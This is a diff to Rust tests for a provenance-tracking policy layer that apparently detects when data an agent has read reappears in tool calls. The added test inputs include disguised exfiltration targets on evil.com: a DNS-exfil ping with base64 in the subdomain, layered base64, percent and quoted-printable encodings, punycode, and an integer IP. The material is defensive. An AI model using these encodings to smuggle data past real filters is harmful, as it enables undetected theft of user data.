@@ -10,7 +10,8 @@ use std::time::{Duration, Instant};
 
 use policylayer::limits::MAX_REMEMBERED;
 use policylayer::provenance::{
-    CalledTool, CameFrom, Index, Provenance, Returns, SHARED, SessionMemory, Source, Unknown, Unremembered,
+    CalledTool, CameFrom, Index, Provenance, Returns, SHARED, SessionFacts, SessionMemory, Source, Unknown,
+    Unremembered,
 };
 use policylayer::state::{Clients, Keeping, Ledger};
 use proptest::prelude::*;
@@ -37,6 +38,7 @@ fn read(memory: &dyn Provenance, text: &str) {
 }
 
 fn came_from(memory: &dyn Provenance, text: &str) -> CameFrom {
+    memory.refresh();
     memory.find_origins(text).came_from(|source| source.returns(Returns::Untrusted))
 }
 
@@ -137,6 +139,14 @@ fn a_value_is_found_however_it_is_written() {
         "bill.txt",
         "C:\\temp\\bill.txt",
         "../../tmp/bill.txt",
+        "//evil.com/other",
+        "https:/evil.com/other",
+        "https:\\\\evil.com\\other",
+        "https://c2VjcmV0.evil.com/",
+        "ping c2VjcmV0.a.evil.com",
+        "x%3AYm9iQGV2aWwuY29t",
+        "WW05aVFHVjJhV3d1WTI5dA==",
+        "Ym9iJTQwZXZpbC5jb20=",
         "ord48213",
         "ticket=ORD-48213",
         "inv-48213",
@@ -231,6 +241,12 @@ fn what_is_said_not_to_be_found_is_not() {
         ("reversed", "moc.live@bob", "bob@evil.com"),
         ("hexadecimal", "626f62406576696c2e636f6d", "bob@evil.com"),
         ("rot13", "obo@rivy.pbz", "bob@evil.com"),
+        ("base64 three times", "bob@evil.com", &*base64(&base64(&base64("bob@evil.com")))),
+        ("a host in punycode", "see https://b\u{fc}cher.example/", "https://xn--bcher-kva.example/"),
+        ("an address as one number", "see http://198.51.100.7/x", "http://3325256711/x"),
+        ("the host of another program's address", "see https://evil.com/x", "root@evil.com:x"),
+        ("quoted-printable", "write to bob=40evil.com", "bob@evil.com"),
+        ("a subdomain of a mailbox's host", "write to bob@evil.com", "https://x.evil.com/"),
         ("a short word", "ask Fred", "Fred"),
         ("a name within a sentence", "please ask Robert Millerson today", "Robert Millerson"),
         ("a few digits", "the code is 4821", "4821"),
@@ -253,6 +269,17 @@ fn of_a_value_that_is_split_the_parts_that_are_values_are_found() {
     ] {
         assert_eq!(is_copied(written, argument), found, "{argument}");
     }
+}
+
+/// What an agent keeps outside of its session is read again as what the tool is said to return.
+#[test]
+fn what_another_session_kept_is_not_known_to_come_from_others() {
+    let dir = tempfile::tempdir().unwrap();
+    let (first, second) = (ledger(dir.path(), one), ledger(dir.path(), other));
+    read(&first, "bob@evil.com");
+    second.remember_result(&source("recall", &[]), &result("bob@evil.com"));
+    assert_eq!(came_from(&second, "bob@evil.com"), CameFrom::Nowhere);
+    assert!(is_found(&first, "bob@evil.com"));
 }
 
 #[test]
@@ -422,6 +449,11 @@ fn ledger(dir: &Path, name: fn() -> String) -> Ledger {
     Ledger::new(dir, Keeping::Always, Clients { name, is_running: |_| Some(true) })
 }
 
+fn facts(memory: &dyn Provenance) -> SessionFacts {
+    memory.refresh();
+    memory.session_facts()
+}
+
 fn path_of(dir: &Path) -> PathBuf {
     dir.join("7@1.ledger")
 }
@@ -437,8 +469,8 @@ fn wrappers_of_one_client_share_a_ledger_and_clients_do_not() {
         is_found(&second, "bob@evil.com") && is_found(&first, "bob@evil.com") && !is_found(&foreign, "bob@evil.com")
     );
     second.remember_call(&CalledTool { server: "mail".to_owned(), tool: "send".to_owned() });
-    assert_eq!(first.session_facts().called.len(), 1);
-    assert_eq!(foreign.session_facts().called.len(), 0);
+    assert_eq!(facts(&first).called.len(), 1);
+    assert_eq!(facts(&foreign).called.len(), 0);
     // A wrapper that is started anew.
     drop((first, second));
     assert!(is_found(&ledger(&dir, one), "bob@evil.com"));
@@ -488,7 +520,7 @@ fn breaks(what: &str, break_it: impl Fn(&Path)) {
     break_it(&path_of(dir.path()));
     for memory in [&open, &ledger(dir.path(), one)] {
         assert_eq!(came_from(memory, "alice@example.org"), CameFrom::Unknown(Unknown::Unreachable), "{what}");
-        assert_eq!(memory.session_facts().unknown, Some(Unknown::Unreachable), "{what}");
+        assert_eq!(facts(memory).unknown, Some(Unknown::Unreachable), "{what}");
         read(memory, "more@evil.com");
     }
 }
@@ -545,6 +577,67 @@ fn a_ledger_that_others_can_reach_is_not_used() {
     // What is made anew does not have what was read before; whoever had the old one says so.
     read(&ledger(dir.path(), one), "x");
     assert_eq!(came_from(&open, "x"), CameFrom::Unknown(Unknown::Unreachable), "replaced");
+    // So do those that begin with the new one, from when the old one's wrapper next looks or loses something.
+    let new = ledger(dir.path(), one);
+    read(&open, "late@evil.com");
+    assert_eq!(came_from(&new, "late@evil.com"), CameFrom::Unknown(Unknown::Unreachable));
+}
+
+/// What a wrapper could not add while it could not open the ledger is known to be missing as soon as it can.
+#[cfg(unix)]
+#[test]
+fn what_was_lost_while_the_ledger_could_not_be_opened_is_told_later() {
+    use std::os::unix::fs::PermissionsExt as _;
+    let dir = tempfile::tempdir().unwrap();
+    let (asking, failing) = (ledger(dir.path(), one), ledger(dir.path(), one));
+    read(&asking, "bob@evil.com");
+    let allow = |mode| fs::set_permissions(path_of(dir.path()), fs::Permissions::from_mode(mode)).unwrap();
+    allow(0o644);
+    read(&failing, "lost@evil.com");
+    allow(0o600);
+    read(&failing, "more@evil.com");
+    assert_eq!(came_from(&asking, "lost@evil.com"), CameFrom::Unknown(Unknown::Unreachable));
+}
+
+/// A look-up that fails loses nothing: it is answered strictly, and the next one as it is.
+#[test]
+fn what_cannot_be_looked_up_for_now_is_looked_up_later() {
+    let dir = tempfile::tempdir().unwrap();
+    let (asking, other) = (ledger(dir.path(), one), ledger(dir.path(), one));
+    read(&asking, "bob@evil.com");
+    assert!(is_found(&other, "bob@evil.com"));
+    // Another wrapper has stopped in the middle of writing how much there is.
+    let flip = || {
+        let mut bytes = fs::read(path_of(dir.path())).unwrap();
+        bytes[50] ^= 1;
+        let mut file = fs::File::options().write(true).open(path_of(dir.path())).unwrap();
+        std::io::Write::write_all(&mut file, &bytes).unwrap();
+    };
+    flip();
+    for memory in [&asking, &other] {
+        assert_eq!(came_from(memory, "alice@example.org"), CameFrom::Unknown(Unknown::Unreachable));
+        assert_eq!(facts(memory).unknown, Some(Unknown::Unreachable));
+    }
+    flip();
+    for memory in [&asking, &other, &ledger(dir.path(), one)] {
+        assert!(is_found(memory, "bob@evil.com") && !is_found(memory, "alice@example.org"));
+        assert_eq!(facts(memory).unknown, None);
+    }
+}
+
+/// What a call had is noted to loosen rules. That it could not be is no loss, and no reason to doubt what is there.
+#[test]
+fn what_a_call_had_may_be_lost() {
+    let dir = tempfile::tempdir().unwrap();
+    let (failing, asking) = (ledger(dir.path(), one), ledger(dir.path(), one));
+    assert!(!is_found(&failing, "alice@example.org"));
+    let lock = fs::File::open(path_of(dir.path()).with_extension("ledger-lock")).unwrap();
+    lock.lock().unwrap();
+    failing.remember_written(r#"{"to":"alice@example.org"}"#);
+    assert!(!is_found(&failing, "alice@example.org") && !is_found(&asking, "alice@example.org"));
+    lock.unlock().unwrap();
+    read(&failing, "mail alice@example.org");
+    assert!(is_found(&failing, "alice@example.org") && is_found(&asking, "alice@example.org"));
 }
 
 #[test]
